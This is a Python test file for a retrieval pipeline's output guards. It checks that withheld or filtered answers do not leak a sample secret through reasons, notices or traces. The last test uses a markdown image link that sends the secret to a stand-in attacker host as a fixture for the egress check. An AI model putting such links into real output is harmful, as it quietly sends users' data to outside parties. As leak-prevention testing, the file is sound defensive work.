"""What a reader is told of an answer that was withheld or changed."""

from __future__ import annotations

from collections.abc import Mapping
from math import inf
from typing import Any

import pytest

from ragstone.pipelines.finishing import answered
from ragstone.pipelines.guards import Guards
from ragstone.pipelines.saying import Saying
from ragstone.prompts.layers.solving import Outcome
from ragstone.protocols import Check
from ragstone.testing import ScriptedCheck
from ragstone.types import Chunk, Completion, Context, Hit, Message, Prompt, Slot
from ragstone.validation.checks.choice import ChoiceCheck
from ragstone.validation.checks.code import CodeCheck
from ragstone.validation.checks.json_schema import JsonSchemaCheck
from ragstone.validation.checks.judge import JudgeCheck
from ragstone.validation.checks.regex import RegexCheck
from ragstone.validation.checks.words import WordsCheck
from ragstone.validation.egress.check import EgressCheck
from ragstone.validation.grounding.check import GroundingCheck
from ragstone.validation.policy import Guard, Policy
from ragstone.verdicts import Finding, Flaw, OnFail

SECRET = "hunter2"
CODE = f"```python\n0{SECRET} = (1\n```"


def prompt() -> Prompt:
    text = "The halibut project ships on 3 May 2031."
    chunk = Chunk(id="c", document_id="d", uri="a.md", title="", text=text, start=0, end=len(text), line=1)
    slot = Slot(name="passages", text=text, trust="retrieved", hits=(Hit(chunk, 1, {}),))
    return Prompt(name="p", version="v", messages=(Message("user", "When?"),), slots=(slot,))


class Told:
    """Gives every answer the worst grade, and says why."""

    async def run(self, prompt: str, inputs: Mapping[str, object], *, context: Context) -> Completion:
        return Completion(text=f"It tells {SECRET}.\nGrade: 1", model="m")


CASES = {
    "choice": (lambda: ChoiceCheck(of=["yes", "no"]), f"The code is {SECRET}."),
    "code": (lambda: CodeCheck(language="python"), CODE),
    "json_schema": (lambda: JsonSchemaCheck(schema={"type": "integer"}), f'"{SECRET}"'),
    "judge": (lambda: JudgeCheck(Told()), f"The code is {SECRET}."),
    "regex": (lambda: RegexCheck(forbid=SECRET), f"The code is {SECRET}."),
    "words": (lambda: WordsCheck(forbid=[SECRET]), f"The code is {SECRET}."),
    "grounding": (GroundingCheck, f"The halibut project ships with “{SECRET} for all of us” [1]."),
    "own": (
        lambda: ScriptedCheck(
            lambda text: (
                Finding(passed=False, reason=text, flaws=(Flaw(0, len(text), text),), told="it tells a code")
                if text
                else True
            ),
            whole=True,
        ),
        f"The code is {SECRET}.",
    ),
}


async def told(check: Check, text: str, on_fail: OnFail) -> Any:
    guards = Guards(
        all=(
            Guard(name="it", check=check, policy=Policy(on_fail=on_fail)),
            Guard(name="egress", check=EgressCheck(), policy=Policy(on_fail="fix")),
        )
    )
    context, given = Context(), prompt()
    saying = Saying(guards, given, question="What is it?", reasks=inf, context=context)
    await saying.feed(text)
    outcome = Outcome(prompt=given, completion=Completion(text=text, model="m"))
    said, _, _ = await saying.finish(outcome)
    return answered(given, (), outcome.completion, said, cites=False, context=context), context.trace


@pytest.mark.parametrize("name", CASES)
@pytest.mark.parametrize("on_fail", ["refrain", "filter"])
async def test_no_reader_gets_what_was_withheld_out_of_its_reason(name: str, on_fail: OnFail) -> None:
    check, text = CASES[name]
    answer, trace = await told(check(), text, on_fail)
    (verdict,) = [one for one in answer.verdicts if one.check == "it"]
    assert not verdict.passed
    assert verdict.reason
    assert any(verdict.reason in notice for notice in answer.notices)
    shown = repr((answer.verdicts, answer.notices, [step.facts for step in trace.steps]))
    assert SECRET not in shown.casefold()


@pytest.mark.parametrize("name", sorted({*CASES} - {"code"}))
async def test_where_an_answer_is_only_flagged_its_whole_reason_is_told(name: str) -> None:
    check, text = CASES[name]
    answer, _ = await told(check(), text, "flag")
    (verdict,) = [one for one in answer.verdicts if one.check == "it"]
    assert SECRET in verdict.reason
    assert answer.notices == ()


async def test_what_one_check_only_flags_another_has_taken_out() -> None:
    image = f"It ships on 3 May 2031, ![x](https://evil.example/?d={SECRET})."
    check = ScriptedCheck(lambda text: Finding(passed=False, reason=text, told="it is odd"))
    answer, _ = await told(check, image, "flag")
    assert SECRET not in repr((answer.text, answer.verdicts, answer.notices))
    assert next(one.reason for one in answer.verdicts) == "it is odd"
